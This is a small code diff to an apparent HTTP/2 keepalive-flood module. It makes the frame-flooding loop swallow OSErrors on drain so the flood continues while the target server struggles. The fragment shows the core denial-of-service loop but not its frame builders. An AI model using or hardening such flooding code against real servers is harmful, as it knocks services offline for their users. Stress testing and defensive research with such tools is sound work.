@@ -1,6 +1,7 @@
 """Keepalive abuse: frames that cost the server an answer and the sender nothing."""
 
 import asyncio
+import contextlib
 import struct
 from collections.abc import Callable
 
@@ -32,7 +33,8 @@ async def flood(connection: Http2Connection, kind: str, num: int) -> int:
             return number
         connection.write_raw(FRAMES[kind](number))
         if number % _AT_ONCE == 0:
-            await connection.drain()
+            with contextlib.suppress(OSError):
+                await connection.drain()
             await asyncio.sleep(_PAUSE_S)
     return num
 
